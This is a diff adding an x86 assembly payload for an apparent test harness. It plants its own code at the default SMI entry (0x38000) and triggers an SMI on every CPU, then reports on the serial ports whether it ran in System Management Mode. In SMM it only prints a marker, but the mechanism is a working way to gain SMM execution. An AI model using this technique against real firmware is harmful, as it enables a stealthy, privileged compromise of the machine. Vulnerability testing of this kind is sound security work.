@@ -1,0 +1,131 @@
+/* SPDX-License-Identifier: GPL-2.0 */
+/*
+ * The attacker's code, copied by main.c to the default SMBASE's SMI entry
+ * (0x38000) and to a SIPI page.  It runs in 16-bit mode, entered either by an
+ * SMI of a CPU whose SMBASE is still 0x30000 (CS base 0x30000, IP 0x8000) or
+ * by a SIPI (CS base = the page, IP 0), and must tell which happened: an SMI
+ * entry has just written the save-state map at 0x3FE00-0x3FFFF, and with it
+ * the SMM revision id at 0x3FEFC, over the pattern the guest left there.
+ *
+ * It announces itself on the serial port and on the debug console with the
+ * token main.c patched in: "HPCI-ATTACK <token> smm=<0|1> apic=<id> stage=<s>"
+ * (docs/facts.md §1).  No stack: SS:SP is whatever the entry left.  Data
+ * are addressed through DS = the segment of this copy (patched per copy),
+ * with offsets from the start of the payload, which the assembler resolves
+ * without relocations.
+ */
+#define OFF(sym) ((sym) - hpci_payload_start)
+#define SAVE_SEG 0x3000            /* default SMBASE >> 4 */
+#define SMM_REVID_OFF 0xfefc       /* SMBASE + 0x8000 + 0x7efc */
+#define SMM_REVID 0x00020064       /* QEMU's x86-64 SMM revision id */
+#define SAVE_PATTERN 0xa5a5a5a5
+#define ENTRY_SEG 0x3800           /* the SMI entry, 0x38000 */
+#define APM_CNT 0xb2
+#define APM_CNT_CPU_HOTPLUG 0x04   /* what QEMU's CPU hotplug AML writes */
+
+.macro PRINT port
+	mov $\port, %dx
+	mov $OFF(msg), %si
+	cld
+1:	lodsb
+	test %al, %al
+	jz 2f
+	out %al, %dx
+	jmp 1b
+2:
+.endm
+
+	.section .rodata.hpci_payload, "a"
+	.code16
+	.globl hpci_payload_start, hpci_payload_end, hpci_payload_dseg
+	.globl hpci_payload_do_smi, hpci_payload_token, hpci_payload_ran
+hpci_payload_start:
+	cli
+	.byte 0xb8                 /* mov $imm16, %ax */
+hpci_payload_dseg:
+	.word 0
+	mov %ax, %ds
+	mov $SAVE_SEG, %ax
+	mov %ax, %es
+
+	/* Which CPU this is: its initial APIC ID, as two hex digits. */
+	mov $1, %eax
+	cpuid
+	shr $24, %ebx
+	mov %bl, %dl
+	movb $1, OFF(hpci_payload_ran)(%bx)
+	mov %dl, %al
+	shr $4, %al
+	mov $OFF(hexdigits), %bx
+	xlat
+	mov %al, OFF(msg_apic)
+	mov %dl, %al
+	and $0x0f, %al
+	xlat
+	mov %al, OFF(msg_apic) + 1
+
+	/* Where: an SMI entry wrote a valid revision id over the pattern.
+	 * Put the pattern back, so that a later entry outside SMM does not
+	 * read this one's. */
+	movb $'0', OFF(msg_smm)
+	cmpl $SMM_REVID, %es:SMM_REVID_OFF
+	jne 3f
+	movb $'1', OFF(msg_smm)
+	movl $SAVE_PATTERN, %es:SMM_REVID_OFF
+3:
+	PRINT 0x3f8
+	PRINT 0x402
+
+	/* The SIPI variant goes on as the seed's attacker: plant this code
+	 * at the SMI entry, then raise an SMI on every CPU, itself included. */
+	cmpb $0, OFF(hpci_payload_do_smi)
+	je park
+	mov $ENTRY_SEG, %ax
+	mov %ax, %es
+	xor %si, %si
+	xor %di, %di
+	mov $OFF(hpci_payload_end), %cx
+	cld
+	rep movsb
+	movw $ENTRY_SEG, %es:OFF(hpci_payload_dseg)
+	movb $0, %es:OFF(hpci_payload_do_smi)
+	movb $'e', %es:OFF(msg_stage)
+	mov $APM_CNT_CPU_HOTPLUG, %al
+	out %al, $APM_CNT
+	/* Back from the SMI (RSM): say so, with the same check. */
+	mov $SAVE_SEG, %ax
+	mov %ax, %es
+	movb $'a', OFF(msg_stage)
+	movb $'0', OFF(msg_smm)
+	cmpl $SMM_REVID, %es:SMM_REVID_OFF
+	jne 4f
+	movb $'1', OFF(msg_smm)
+4:
+	PRINT 0x3f8
+	PRINT 0x402
+park:
+	cli
+	hlt
+	jmp park
+
+hexdigits:
+	.ascii "0123456789abcdef"
+hpci_payload_do_smi:
+	.byte 0
+msg:
+	.ascii "\nHPCI-ATTACK "
+hpci_payload_token:
+	.ascii "0000000000000000"
+	.ascii " smm="
+msg_smm:
+	.ascii "0 apic="
+msg_apic:
+	.ascii "00 stage="
+msg_stage:
+	.ascii "e\n"
+	.byte 0
+	.balign 16
+/* One byte per APIC ID, set when that CPU entered this copy. */
+hpci_payload_ran:
+	.fill 256, 1, 0
+hpci_payload_end:
